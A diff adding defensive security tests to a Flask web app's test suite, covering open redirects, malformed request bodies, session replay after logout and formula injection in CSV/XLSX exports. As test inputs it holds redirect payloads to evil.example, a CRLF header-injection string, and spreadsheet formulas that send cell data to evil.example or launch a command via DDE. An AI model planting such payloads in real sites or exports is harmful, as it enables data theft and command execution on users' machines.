@@ -15,6 +15,7 @@ database per module, one reset per form; KELISIM_FUZZ_VERBOSE=1 prints what each
 """
 
 import io
+import json
 import os
 import re
 import tempfile
@@ -23,7 +24,7 @@ from collections import Counter
 from dataclasses import dataclass, field
 from datetime import date, timedelta
 from html.parser import HTMLParser
-from urllib.parse import parse_qs, urljoin, urlsplit
+from urllib.parse import parse_qs, quote, urljoin, urlsplit
 
 import pytest
 from hypothesis import HealthCheck, Phase, given, settings
@@ -38,6 +39,7 @@ from tests.access_matrix import (  # noqa: F401 (the fixtures module_site and si
     expected,
     make_app,
     module_site_fixture,
+    param,
     routes,
     rule_key,
     site_fixture,
@@ -404,7 +406,16 @@ def problems_of(response, outbox):
         errors = (response.get_json(silent=True) or {}).get("errors")
         if not errors:
             found.append(f"400 to the outbox without errors: {response.get_data(as_text=True)[:200]}")
+    if 300 <= status < 400 and off_site(response.headers.get("Location", "")):
+        found.append(f"redirects off the site: Location {response.headers.get('Location')!r}")
     return found
+
+
+def off_site(location):
+    """Whether a Location leads a browser away from this site (another host, or a path it reads as one)."""
+    parts = urlsplit(location)
+    return (parts.netloc not in ("", "localhost") or parts.scheme not in ("", "http", "https")
+            or location.startswith("//") or "\\" in location or bool(re.search(r"[\x00-\x1f\x7f]", location)))
 
 
 def carries_markup(items):
@@ -573,6 +584,11 @@ def fuzz_form(site, key, spot, password_hash, others):
 QUERY_NAMES = {"page", "q", "district", "school", "event", "quarter", "year", "kind", "from", "to", "user", "type",
                "action", "next", "lang", "status", "category"}
 QUERY_VALUES = ["99999999999999999999", XSS[1], "-1\x00'\"%_\\"]
+# Where a page may send the reader next: set to addresses of other sites, however disguised.
+REDIRECT_NAMES = ("next", "redirect", "url", "return_to", "back", "continue")
+HOSTILE_NEXT = ["//evil.example/x", "/\t/evil.example", "/%09/evil.example", "/\\evil.example", "\\\\evil.example",
+                "https://evil.example/", "/%2F%2Fevil.example", "javascript:alert(1)", "/surveys\r\nSet-Cookie: x=1",
+                "/\u3000/evil.example", "http:evil.example"]
 
 
 @pytest.mark.parametrize("role", ["anonymous", "school", "district", "admin"])
@@ -593,6 +609,11 @@ def test_hostile_query_strings(site, role):
             response = site.client(role).get(url, query_string={name: value for name in names})
             problems += [f"GET {url}?…={value!r}: {p}" for p in problems_of(response, False)
                          if not p.startswith("400 without")]
+        if not rule.rule.endswith(".pdf"):  # redirect parameters: two disguises of another host each
+            for value in HOSTILE_NEXT[:2]:
+                response = site.client(role).get(url, query_string={name: value for name in REDIRECT_NAMES})
+                problems += [f"GET {url}?next={value!r}: {p}" for p in problems_of(response, False)
+                             if not p.startswith("400 without")]
     assert not problems, "\n".join(problems)
 
 
@@ -639,3 +660,193 @@ def test_an_event_saved_without_its_optional_online_link(site):
         "registration_opens": (day - timedelta(days=30)).isoformat(), "registration_closes": day.isoformat()})
     assert response.status_code == 302, response.get_data(as_text=True)[:500]
     assert TrainingEvent.get_by_id(event.id).online_url == ""
+
+
+# ---------------------------------------------------------------- bodies that are not forms (issue #16)
+
+NON_FORM_BODIES = [
+    *(("application/json", json.dumps(value).encode()) for value in (
+        1, -1.5, 1e308, "text", True, None, [], [1], [[1, 2]], ["a", "b"], {}, {"username": 5},
+        {"client_uuid": ["x"], "csrf_token": None}, {"a": {"b": [1, {"c": None}]}})),
+    ("application/json", b"{not json"), ("application/json; charset=utf-16", json.dumps({"a": 1}).encode("utf-16")),
+    ("text/plain", b"username=admin&password=x"), ("text/plain; charset=utf-8", "Қазақ тілі".encode()),
+    ("application/x-www-form-urlencoded; charset=utf-16", "username=admin".encode("utf-16")),
+    ("application/x-www-form-urlencoded; charset=latin-1", "full_name=\xe9".encode("latin-1")),
+    ("application/x-www-form-urlencoded; charset=koi8-r", "full_name=Ирина".encode("koi8-r")),
+    ("multipart/form-data", b"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--\r\n"),
+    ("application/xml", b"<a>1</a>"), ("application/octet-stream", b"\x00\xff\xfe"), ("", b"a=1&b=2"),
+]
+
+
+def current_form(site, key, spot):
+    """(the address the form posts to, the form) as its page shows it now."""
+    url, page = site.request(spot.role, "GET", routes(site.app)[spot.page])
+    form = next((f for f in post_forms("http://localhost" + url, page.get_data(as_text=True))
+                 if post_route(site.app, f.action) == key), None)
+    assert form is not None, f"{spot.page} as {spot.role} no longer shows the form posting to {key}"
+    action = urlsplit(form.action)
+    return action.path + (f"?{action.query}" if action.query else ""), form
+
+
+@pytest.mark.parametrize("key", POST_KEYS)
+def test_bodies_that_are_not_forms_and_hostile_redirects(key, spots, site, fast_password_hash):
+    """Every POST route, as the role whose page offers its form: bodies of every other type (JSON of every
+    shape, text, XML, forms in other charsets) answer 400 with a message, never a 5xx; the form as shown, posted
+    with every redirect parameter set to another site's address, never leads there."""
+    found, _unbuilt = spots
+    assert found.get(key), f"no page offers a form that posts to {key}"
+    site.reset().heal(fast_password_hash)
+    spot = next(iter(found[key].values()))
+    target, form = current_form(site, key, spot)
+    cookie_name, cookie = site.session_cookie(spot.role)
+    problems = []
+    for content_type, body in NON_FORM_BODIES:
+        for accept in ("text/html", "application/json"):
+            client = site.app.test_client()
+            if cookie:
+                client.set_cookie(cookie_name, cookie)
+            headers = {"Accept": accept, **({"Content-Type": content_type} if content_type else {})}
+            response = client.post(target, data=body, headers=headers)
+            said = (response.get_json(silent=True) or {}).get("message") if response.is_json else \
+                re.sub(r"<[^>]+>", " ", response.get_data(as_text=True))
+            if response.status_code != 400 or not said or not said.strip():
+                problems.append(f"POST {target} {content_type!r} {body[:40]!r} (Accept {accept}): "
+                                f"{response.status_code} {response.get_data(as_text=True)[:160]!r}")
+    values = [(name, value) for name, vals in form.as_shown().items() for value in vals
+              if not isinstance(value, tuple)]
+    for value in HOSTILE_NEXT:
+        site.heal(fast_password_hash)
+        client = site.app.test_client()
+        if cookie:
+            client.set_cookie(cookie_name, cookie)
+        query = "&".join(f"{name}={quote(value, safe='')}" for name in REDIRECT_NAMES)
+        response = client.post(target + ("&" if "?" in target else "?") + query, data=MultiDict(values),
+                               content_type="multipart/form-data" if form.multipart else None)
+        problems += [f"POST {target}?next={value!r}: {p}" for p in problems_of(response, False)
+                     if not p.startswith("400 without")]
+    site.heal(fast_password_hash)
+    assert not problems, "\n".join(problems)
+
+
+@pytest.mark.parametrize("role", [role for role in ROLES if role != "anonymous"])
+def test_signing_in_with_a_hostile_next_never_leaves_the_site(site, role, fast_password_hash):
+    site.heal(fast_password_hash)
+    username = site.world.users[role].username
+    problems = []
+    for value in HOSTILE_NEXT:
+        client = site.app.test_client()
+        response = client.post("/login?next=" + quote(value, safe=""), data={"username": username,
+                                                                            "password": PASSWORD})
+        if response.status_code != 302:
+            problems.append(f"next={value!r}: {response.status_code}")
+        problems += [f"next={value!r}: {p}" for p in problems_of(response, False)]
+    assert not problems, "\n".join(problems)
+
+
+# ---------------------------------------------------------------- a session copied before logout (issue #16)
+
+
+@pytest.mark.parametrize("role", [role for role in ROLES if role != "anonymous"])
+def test_a_session_cookie_replayed_after_logout_signs_nobody_in(site, role, fast_password_hash):
+    """Signed in through the login form, the cookie copied, signed out: the copy opens none of the role's pages."""
+    site.heal(fast_password_hash)
+    client = site.app.test_client()
+    user = site.world.users[role]
+    assert client.post("/login", data={"username": user.username, "password": PASSWORD}).status_code == 302
+    name = site.app.config["SESSION_COOKIE_NAME"]
+    copied = client.get_cookie(name).value
+    assert client.get("/password").status_code == 200
+    assert client.post("/logout").status_code == 302
+    thief = site.app.test_client()
+    thief.set_cookie(name, copied)
+    for url in ("/password", "/sessions", "/surveys", "/training", "/tallies"):
+        response = thief.get(url)
+        assert response.status_code == 302 and urlsplit(response.headers["Location"]).path == "/login", url
+
+
+# ---------------------------------------------------------------- spreadsheets cannot attack (issue #16)
+
+# Stored through the forms (a participant's name, an outreach description, a school's name), then downloaded.
+FORMULAS = {"name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "outreach": "=cmd|' /C calc'!A0",
+            "school": "+SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+def spreadsheet_cells(response, fmt):
+    """[(text of the cell, is it a formula)] of a CSV or XLSX answer."""
+    if fmt == "csv":
+        import csv
+
+        rows = csv.reader(io.StringIO(response.data.decode("utf-8-sig")))
+        return [(cell, cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"[+-]?\d+([.,]\d+)?",
+                                                                                              cell))
+                for row in rows for cell in row]
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(response.data))
+    return [(str(cell.value), cell.data_type == "f") for sheet in book.worksheets for row in sheet.iter_rows()
+            for cell in row if cell.value is not None]
+
+
+def spreadsheet_routes(app):
+    """(key, rule, formats) of every GET route of the URL map that answers CSV or XLSX."""
+    for key, rule in sorted(routes(app).items()):
+        if not key.startswith("GET "):
+            continue
+        converter = rule._converters.get("fmt")
+        formats = set(getattr(converter, "items", ())) or {rule.rule.rsplit(".", 1)[-1]}
+        if formats & {"csv", "xlsx"}:
+            yield key, rule, sorted(formats & {"csv", "xlsx"})
+
+
+def test_every_spreadsheet_download_is_inert(site):
+    """Formulas typed into the public registration, an outreach activity and a school's name come out of every
+    CSV and XLSX route of the URL map as text: no CSV cell starts a formula, no XLSX cell is one."""
+    from models.training import Registration
+    from services.tallies import RECORD_KINDS
+
+    site.reset()
+    records = site.records("school")
+    event, school = site.shared_event, records.school
+    anonymous, admin, curator = site.client("anonymous"), site.client("admin"), site.client("school")
+    registered = anonymous.post(f"/e/{event.slug}", data={
+        "client_uuid": str(uuid.uuid4()), "full_name": FORMULAS["name"], "position": "curator",
+        "district": str(school.district_id), "school": str(school.id), "phone": "+77017770707", "consent": "y"})
+    assert registered.status_code == 302, registered.get_data(as_text=True)[:300]
+    hostile = Registration.get(Registration.phone == "+77017770707")
+    day = event.ordered_days()[0]
+    assert admin.post(f"/training/{event.id}/days/{day.id}/present/{hostile.id}").status_code == 302
+    activity = curator.post("/outreach/new", data={
+        "client_uuid": str(uuid.uuid4()), "held_on": date.today().isoformat(), "format": "general_meeting",
+        "grade_from": "1", "grade_to": "4", "language": "kk", "parents_reached": "12",
+        "description": FORMULAS["outreach"]})
+    assert activity.status_code == 302, activity.get_data(as_text=True)[:300]
+    edit = site.client("admin").post(f"/schools/{school.id}/edit", data={
+        "district": str(school.district_id), "code": school.code, "name_kk": FORMULAS["school"],
+        "name_ru": FORMULAS["school"], "bin": ""})
+    assert edit.status_code == 302, edit.get_data(as_text=True)[:300]
+
+    overrides = {"registration_id": hostile.id, "event_id": event.id}
+    checked, seen, problems = 0, set(), []
+    for key, rule, formats in spreadsheet_routes(site.app):
+        kinds = sorted(RECORD_KINDS) if "kind" in rule.arguments else [None]
+        answers = expected(key)["school"] if key in MATRIX else ["200"] * len(ROLES)
+        for role, answer in zip(ROLES, answers, strict=True):
+            if answer != "200":
+                continue
+            for fmt in formats:
+                for kind in kinds:
+                    values = {name: overrides[name] if name in overrides else param(rule.endpoint, name)[1](records)
+                              for name in rule.arguments}
+                    values.update(fmt=fmt, **({"kind": kind} if kind else {}))
+                    url = rule.build({k: v for k, v in values.items() if k in rule.arguments},
+                                     append_unknown=False)[1]
+                    response = site.client(role).get(url)
+                    if response.status_code != 200:
+                        continue  # a kind this installation does not offer
+                    checked += 1
+                    for text, formula in spreadsheet_cells(response, fmt):
+                        seen.update(name for name, value in FORMULAS.items() if value in text)
+                        if formula:
+                            problems.append(f"{url} as {role}: a live formula {text[:60]!r}")
+    assert not problems, "\n".join(problems[:20])
+    assert checked >= 10 and seen == set(FORMULAS), (checked, seen)
